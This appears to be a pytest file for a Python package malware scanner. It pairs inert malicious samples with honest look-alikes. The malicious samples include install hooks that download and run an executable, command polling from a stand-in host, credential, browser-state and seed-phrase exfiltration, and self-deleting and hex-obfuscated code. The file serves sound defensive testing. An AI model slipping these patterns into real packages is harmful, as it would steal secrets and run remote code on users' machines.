"""Behaviours of malware that used to pass as ``risky``: each rule has a malicious and an honest
sample, small, inert and written for this file (never taken from the corpus). Archives are built
in memory and read by the real archive reader."""

from __future__ import annotations

import io
import textwrap
import zipfile

from pipvet.core.analysis.archive import read_artifact_bytes
from pipvet.core.analysis.engine import analyze
from pipvet.core.analysis.model import Artifact, Member

FLAGGED = ("suspicious", "malicious")
ORDER = ("info", "low", "medium", "high", "critical")


def scan(files: dict[str, str | bytes], name: str = "demo"):
    members = []
    for path, content in files.items():
        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))


def wheel(files: dict[str, str | bytes], name: str = "demo"):
    """A wheel built in memory, read by the archive reader like any download."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, content in files.items():
            data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
            zf.writestr(path, data)
        zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Name: {name}\nVersion: 1.0\n")
    return analyze(read_artifact_bytes(buf.getvalue(), f"{name}-1.0-py3-none-any.whl"))


def rules(result, at_least: str = "low") -> set[str]:
    return {f.rule for f in result.findings if ORDER.index(f.severity) >= ORDER.index(at_least)}


def worst(result):
    return [f for f in result.findings if f.severity in ("high", "critical")]


# -- strings inside bundled binaries --------------------------------------------------------------

# an invented channel: a webhook id and token written into a binary
HOOK = b"https://discord.com/api/webhooks/987654321098/Zq7invented9channel4test0123456789"


def _elf(*strings: bytes, size: int = 300_000) -> bytes:
    """An inert ELF-looking blob with ``strings`` far past the first 4 KiB."""
    body = bytearray(b"\x7fELF\x02\x01\x01" + bytes(size))
    at = 150_000
    for s in strings:
        body[at : at + len(s) + 1] = s + b"\x00"
        at += len(s) + 64
    return bytes(body)


def test_a_webhook_deep_inside_a_native_module_is_read() -> None:
    result = wheel({"demo/__init__.py": "from ._core import run\n", "demo/_core.so": _elf(HOOK)})
    assert "indicator.messenger-webhook" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_webhook_as_utf16_in_a_windows_executable_is_read() -> None:
    wide = HOOK.decode().encode("utf-16-le")
    result = wheel({"demo/__init__.py": "", "demo/helper.exe": b"MZ" + _elf(wide)[2:]})
    assert "indicator.messenger-webhook" in rules(result, "high")


def test_ordinary_urls_inside_a_native_module_are_quiet() -> None:
    blob = _elf(
        b"https://github.com/demo/demo/issues",
        b"see https://docs.example.org/errors for details",
        b"http://127.0.0.1:8080/",
        b"curl -LsSf https://install.example.org/install.sh | sh",  # a hint printed to users
    )
    result = wheel({"demo/__init__.py": "from ._core import run\n", "demo/_core.so": blob})
    assert result.verdict not in FLAGGED, worst(result)
    assert not any(f.rule.startswith("intent.") for f in result.findings)


def test_strings_of_compiled_bytecode_without_source_are_read() -> None:
    pyc = b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(6000) + b"\xfa" + HOOK + bytes(10)
    result = wheel({"demo/__init__.py": "", "demo/__pycache__/core.cpython-312.pyc": pyc})
    assert "indicator.messenger-webhook" in rules(result, "high")


# -- files dressed up as something else -----------------------------------------------------------


def test_bytecode_that_is_no_bytecode_is_a_disguised_payload() -> None:
    blob = bytes((i * 131 + 7) % 256 for i in range(4000))  # no pyc magic: packed data
    result = wheel({"demo/__init__.py": "", "demo/__pycache__/util.pyc": blob})
    assert "metadata.disguised-file" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_typing_marker_holding_an_archive_is_a_disguised_payload() -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("x.py", "print('inert')\n" * 20)
    result = wheel({"demo/__init__.py": "", "demo/_impl.typed": inner.getvalue()})
    assert "metadata.disguised-file" in rules(result, "high")


def test_real_bytecode_and_typing_markers_are_quiet() -> None:
    pyc = b"\xcb\r\r\n" + bytes(12) + b"\xe3" + bytes(200)
    result = wheel(
        {
            "demo/__init__.py": "",
            "demo/py.typed": "partial\n",
            "demo/_extra.typed": "# marker file for type checkers, kept on purpose\n" * 3,
            "demo/__pycache__/__init__.cpython-312.pyc": pyc,
        }
    )
    assert "metadata.disguised-file" not in rules(result)
    assert result.verdict not in FLAGGED, worst(result)


# -- commands run through another call ------------------------------------------------------------


def test_a_shell_started_as_a_thread_target_with_decoded_text_is_decode_execute() -> None:
    src = """
        import base64, os, threading

        def start():
            cmd = base64.b64decode("ZWNobyBpbmVydA==").decode()
            threading.Thread(target=os.system, args=[cmd]).start()

        start()
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.decode-execute" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_an_honest_thread_running_a_fixed_command_is_quiet() -> None:
    src = """
        import os, threading

        def refresh():
            threading.Thread(target=os.system, args=["true"], daemon=True).start()
    """
    result = scan({"demo/__init__.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_commands_fetched_from_a_host_and_run_by_a_helper_are_download_execute() -> None:
    src = """
        import subprocess, time, requests

        def poll():
            while True:
                order = requests.get("https://orders.invalid/next").text
                report(run_it(order))
                time.sleep(1)

        def report(out):
            requests.post("https://orders.invalid/out", data={"o": out})

        def run_it(value):
            return subprocess.run(value, shell=True, capture_output=True).stdout
    """
    result = scan({"demo/agent.py": src})
    assert "intent.download-execute" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_helper_running_fixed_commands_of_the_project_is_quiet() -> None:
    src = """
        import subprocess, json, requests

        def latest_version():
            return requests.get("https://pypi.org/pypi/demo/json").json()["info"]["version"]

        def sh(cmd):
            return subprocess.run(cmd, shell=True, check=True)

        def release():
            sh("git tag v1.0")
            sh("git push --tags")
            print(latest_version())
    """
    result = scan({"demo/release.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- credentials sent fire-and-forget -------------------------------------------------------------


def test_credentials_posted_quietly_to_a_fixed_host_are_exfiltration() -> None:
    src = """
        import requests

        class Client:
            def __init__(self, config):
                self.region = config.region
                try:
                    body = {"id": config.access_key_id, "s": config.access_key_secret}
                    requests.post(url="https://collector.pipvet-sample.net/v1", json=body)
                except Exception:
                    pass
    """
    result = scan({"demo/client.py": src})
    assert "intent.exfiltration" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_credentials_sent_quietly_to_an_encoded_host_are_exfiltration() -> None:
    src = """
        import base64
        from urllib import request

        def connect(user, password):
            dest = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZC92MQ==").decode()
            req = request.Request(dest, data=repr({"u": user, "p": password}).encode())
            try:
                request.urlopen(req)
            except Exception:
                print("offline")
            return user
    """
    result = scan({"demo/session.py": src})
    assert "intent.exfiltration" in rules(result, "high")


def test_a_client_logging_in_and_reading_the_answer_is_quiet() -> None:
    src = """
        import requests

        TOKEN_URL = "https://login.example.org/oauth/token"

        class Client:
            def __init__(self, client_id, client_secret):
                try:
                    r = requests.post(TOKEN_URL, data={"id": client_id, "secret": client_secret})
                    self.token = r.json()["access_token"]
                except Exception:
                    self.token = None

            def logout(self):
                try:
                    auth = {"Authorization": self.token}
                    requests.post("https://login.example.org/logout", headers=auth)
                except Exception:
                    pass
    """
    result = scan({"demo/client.py": src})
    assert "intent.exfiltration" not in rules(result)
    assert result.verdict not in FLAGGED, worst(result)


def test_credentials_sent_to_a_configured_host_are_quiet() -> None:
    src = """
        import requests

        def report(base_url, api_key, event):
            try:
                requests.post(f"{base_url}/events", json={"key": api_key, "event": event})
            except Exception:
                pass
    """
    result = scan({"demo/telemetry.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- fetched code run at install ------------------------------------------------------------------


def test_a_repository_cloned_and_run_by_setup_py_is_download_execute() -> None:
    src = """
        import os, subprocess
        from setuptools import setup
        import git

        def fetch_tools():
            where = os.path.join(os.path.expanduser("~"), ".cache", "demo-tools")
            git.Repo.clone_from("https://git.pipvet-sample.net/tools.git", where)
            os.chdir(where)
            subprocess.run(["python", "run.py"])

        setup(name="demo")
        if __name__ == "__main__":
            fetch_tools()
    """
    result = scan({"setup.py": src})
    assert "intent.download-execute" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_git_clone_in_a_maintainer_script_is_quiet() -> None:
    src = """
        import subprocess

        def update_vendored():
            subprocess.check_call(["git", "clone", "https://github.com/example/lib", "vendor/lib"])
            subprocess.check_call(["git", "-C", "vendor/lib", "checkout", "v1.2"])
    """
    result = scan({"demo/_dev.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_an_install_hook_calling_a_package_function_runs_it_at_install() -> None:
    setup_py = """
        from setuptools import setup
        from setuptools.command.install import install

        class Install(install):
            def run(self):
                from demo import welcome
                welcome()
                install.run(self)

        setup(name="demo", packages=["demo"], cmdclass={"install": Install})
    """
    init = """
        import os, tempfile

        def welcome():
            target = os.path.join(tempfile.gettempdir(), "w.exe")
            os.system(f'curl -s -L "https://cdn.pipvet-sample.net/w.exe" -o "{target}"')
            os.system(f"cmd /c start {target}")
    """
    result = scan({"setup.py": setup_py, "demo/__init__.py": init})
    assert "intent.download-execute" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_the_same_functions_never_called_at_install_stay_call_time() -> None:
    setup_py = """
        from setuptools import setup
        from setuptools.command.install import install

        class Install(install):
            def run(self):
                install.run(self)

        setup(name="demo", packages=["demo"], cmdclass={"install": Install})
    """
    init = """
        import os, tempfile

        def fetch_sample(url):
            target = os.path.join(tempfile.gettempdir(), "sample.csv")
            os.system(f'curl -s -L "{url}" -o "{target}"')
            return target
    """
    result = scan({"setup.py": setup_py, "demo/__init__.py": init})
    assert result.verdict not in FLAGGED, worst(result)


def test_credential_stores_uploaded_to_a_cloud_drive_are_credential_theft() -> None:
    src = """
        import os
        import dropbox

        client = dropbox.Dropbox("sl.invented-demo-key")
        BASE = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome")
        STATE = os.path.join(BASE, "User Data", "Local State")
        with open(STATE, "rb") as f:
            client.files_upload(f.read(), "/state")
    """
    result = scan({"demo/sync.py": src})
    assert "intent.credential-theft" in rules(result, "high")


def test_a_cloud_drive_client_on_request_is_quiet() -> None:
    src = """
        import dropbox

        def upload(token, path, dest):
            with open(path, "rb") as f:
                dropbox.Dropbox(token).files_upload(f.read(), dest)
    """
    result = scan({"demo/backup.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- covering tracks ------------------------------------------------------------------------------


def test_a_module_deleting_itself_on_import_is_flagged() -> None:
    src = """
        import ctypes, os

        def probe():
            try:
                lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "native.dll"))
                lib.start()
            finally:
                os.remove(__file__)

        probe()
    """
    result = scan({"demo/term.py": src})
    assert "intent.self-delete" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_removing_other_files_next_to_the_module_is_quiet() -> None:
    src = """
        import os

        CACHE = os.path.join(os.path.dirname(__file__), "cache.json")

        def clear_cache():
            if os.path.exists(CACHE):
                os.remove(CACHE)

        clear_cache()
    """
    result = scan({"demo/cache.py": src})
    assert "intent.self-delete" not in rules(result)
    assert result.verdict not in FLAGGED, worst(result)


# -- names that shadow old builtins; wallet phrases -----------------------------------------------


def test_a_download_written_through_a_handle_named_file_and_run_is_flagged() -> None:
    src = """
        import os, subprocess, tempfile, requests

        def init(url):
            response = requests.get(url)
            path = os.path.join(tempfile.gettempdir(), os.path.basename(url))
            with open(path, "wb") as file:
                file.write(response.content)
            subprocess.run([path])
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.drop-payload" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_download_saved_through_a_handle_named_file_is_quiet() -> None:
    src = """
        import requests

        def save(url, path):
            response = requests.get(url, timeout=10)
            with open(path, "wb") as file:
                file.write(response.content)
            return path
    """
    result = scan({"demo/io.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_seed_phrase_sent_away_is_exfiltration() -> None:
    src = """
        import threading, requests

        def restore(mnemonic_phrase):
            def _log():
                requests.post("https://api.pipvet-sample.net/b", json={"m": mnemonic_phrase})
            threading.Thread(target=_log, daemon=True).start()
            return mnemonic_phrase.split()
    """
    result = scan({"demo/wallet.py": src})
    assert "intent.exfiltration" in rules(result, "high")


def test_seed_phrase_words_checked_locally_are_quiet() -> None:
    src = """
        import requests

        def check(mnemonic_words, mnemonic_phrase_length=12):
            ok = len(mnemonic_words) == mnemonic_phrase_length
            requests.get("https://api.pipvet-sample.net/wordlist", timeout=5)
            return ok
    """
    result = scan({"demo/wallet.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- a messenger channel written into the code ----------------------------------------------------


def test_a_bot_token_written_into_the_code_makes_the_channel_fixed() -> None:
    src = """
        import requests

        class Notifier:
            def __init__(self):
                self.token = "8123456789:AAq7invented0sample1channel2for3tests4x"
                self.chat = "100200300"

            def send(self, text):
                url = f"https://api.telegram.org/bot{self.token}/sendMessage"
                requests.post(url, params={"chat_id": self.chat, "text": text})
    """
    result = scan({"demo/notify.py": src})
    assert "indicator.messenger-webhook" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_bot_client_given_its_token_by_the_user_is_quiet() -> None:
    src = '''
        import requests

        class TelegramIO:
            """Usage: TelegramIO(token="123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11", chat_id=1)"""

            EXAMPLE = "123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11"

            def __init__(self, token, chat_id):
                self.token, self.chat_id = token, chat_id

            def write(self, text):
                url = f"https://api.telegram.org/bot{self.token}/sendMessage"
                return requests.post(url, data={"chat_id": self.chat_id, "text": text}).json()
    '''
    result = scan({"demo/contrib/telegram.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- code spelt in hex escapes --------------------------------------------------------------------


def test_code_spelt_in_hex_escapes_and_evaluated_is_hidden_code() -> None:
    # eval('len(parts)') and eval('part2'), each letter written as an escape
    src = r"""
        parts = ['a', 'b']
        part2 = 'c'
        joined = eval('\x6c\x65\x6e\x28\x70\x61\x72\x74\x73\x29') + eval('\x70\x61\x72\x74\x32')
    """
    result = scan({"demo/__init__.py": src})
    assert "obfuscation.hidden-code-exec" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_escaped_control_characters_in_evaluated_text_are_quiet() -> None:
    src = r"""
        TABLE = eval("{'\x00': 0, '\x1b': 27, '\x7f': 127, '\t': 9}")
        def render(template):
            return eval(compile("f'" + template + "'", "<t>", "eval"))
    """
    result = scan({"demo/table.py": src})
    assert "obfuscation.hidden-code-exec" not in rules(result)
    assert result.verdict not in FLAGGED, worst(result)


def test_a_bootstrap_helper_next_to_setup_py_keeps_its_reach() -> None:
    # the old ez_setup/distribute_setup pattern: setup.py calls a helper that fetches setuptools
    # only when it is missing; the helper's functions stay "when called" as before
    setup_py = """
        from bootstrap_setup import use_setuptools
        use_setuptools()
        from setuptools import setup
        setup(name="demo", packages=["demo"])
    """
    helper = """
        import os, sys, subprocess
        from urllib.request import urlopen

        def _python_cmd(*args):
            return subprocess.call((sys.executable,) + args) == 0

        def _download(url, target):
            data = urlopen(url).read()
            with open(target, "wb") as dst:
                dst.write(data)
            return target

        def _install(tarball):
            return _python_cmd("setup.py", "install")

        def use_setuptools(url="https://files.example.org/setuptools.tar.gz"):
            try:
                import setuptools
            except ImportError:
                _install(_download(url, "setuptools.tar.gz"))
    """
    result = scan({"setup.py": setup_py, "bootstrap_setup.py": helper, "demo/__init__.py": ""})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_git_clone_then_a_formatted_git_checkout_is_quiet() -> None:
    src = """
        import os

        class Index:
            def download_git(self, url, filename, rev=None):
                os.system("git clone --quiet %s %s" % (url, filename))
                if rev is not None:
                    os.system("git -C %s checkout --quiet %s" % (filename, rev))
                return filename
    """
    result = scan({"demo/package_index.py": src})
    assert "intent.download-execute" not in rules(result)
    assert result.verdict not in FLAGGED, worst(result)
